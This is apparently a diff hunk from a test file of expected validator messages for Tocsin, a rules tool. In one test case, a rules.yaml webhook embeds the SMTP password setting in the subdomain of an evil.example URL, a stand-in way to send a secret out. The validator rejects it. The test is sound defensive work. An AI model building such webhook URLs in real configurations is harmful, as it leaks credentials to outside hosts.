@@ -92,7 +92,7 @@ subscribers:
 """,
         """
 rules.yaml:4:29: `${TOCSIN_SMTP_PASSWORD}` is a setting of Tocsin, which rules cannot read
-        webhook: {url: "https://**********************}.evil.example/", secret: "${DESK_SECRET}"}
+        webhook: {url: "https://**********************}.evil.example/", secret…
                                 ^^^^^^^^^^^^^^^^^^^^^^^
     → Give the secret another name.
 """,
